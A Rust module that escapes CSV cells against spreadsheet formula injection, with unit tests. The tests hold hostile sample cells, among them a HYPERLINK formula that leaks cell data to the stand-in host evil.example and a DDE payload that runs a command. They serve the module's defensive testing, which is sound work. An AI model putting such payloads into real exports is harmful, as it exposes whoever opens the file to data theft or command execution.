//! Cells of CSV files that people open in a spreadsheet.
//!
//! A spreadsheet runs a cell that begins with `=`, `+`, `-`, `@`, a tab or a carriage return as a formula, and what stands
//! in an export was written by anybody: a form on the web takes any first name. Such a cell gets an apostrophe in front,
//! which spreadsheets show or hide and never run. A number (`-12.5`) and a phone number (`+12015550115`) stay as they
//! are: they have nothing to run, and whoever reads the file by a program needs them so. `profile import` takes the
//! apostrophe off again.

use std::borrow::Cow;

/// What begins a formula, the full-width forms of East Asian keyboards included.
const FORMULA: [char; 10] = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'];

/// The text as a cell that does nothing.
pub(crate) fn safe(text: &str) -> Cow<'_, str> {
    if begins_formula(text) && !is_number(text) {
        Cow::Owned(format!("'{text}"))
    } else {
        Cow::Borrowed(text)
    }
}

/// What [`safe`] made a cell of.
pub(crate) fn original(cell: &str) -> &str {
    match cell.strip_prefix('\'') {
        Some(text) if begins_formula(text) => text,
        _ => cell,
    }
}

/// Blanks before it are no hindrance to some spreadsheets.
fn begins_formula(text: &str) -> bool {
    text.starts_with(FORMULA) || text.trim_start().starts_with(FORMULA)
}

/// A number, or a phone number without anything that calculates.
fn is_number(text: &str) -> bool {
    let digits = |text: &str| !text.is_empty() && text.bytes().all(|byte| byte.is_ascii_digit());
    if let Some(phone) = text.strip_prefix('+')
        && phone.starts_with(|letter: char| letter.is_ascii_digit())
        && phone
            .bytes()
            .all(|byte| byte.is_ascii_digit() || byte == b' ')
    {
        return true;
    }
    let number = text.strip_prefix(['+', '-']).unwrap_or(text);
    match number.split_once('.') {
        Some((whole, fraction)) => digits(whole) && digits(fraction),
        None => digits(number),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_are_made_harmless_and_numbers_stay() {
        for formula in [
            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")",
            "@SUM(1+1)",
            "+1+2",
            "-2+3",
            "\t=1+1",
            "\r=1+1",
            " =1+1",
            "\u{a0}=1+1",
            "=1",
            "+cmd|' /C calc'!A0",
            "-1,5",
            "+1-201-555-0115",
            "-",
            "＝1+1",
            "-1.",
            "+",
        ] {
            let cell = safe(formula);
            assert_eq!(cell, format!("'{formula}"));
            assert_eq!(original(&cell), formula);
        }
        for plain in [
            "+12015550115",
            "+44 20 7946 0000",
            "-12",
            "-12.50",
            "12",
            "",
            "Ada",
            "a=b",
            "'tis",
            "[\"=1\"]",
            "2026-11-01",
        ] {
            assert_eq!(safe(plain), plain);
            assert_eq!(original(plain), plain);
        }
    }
}
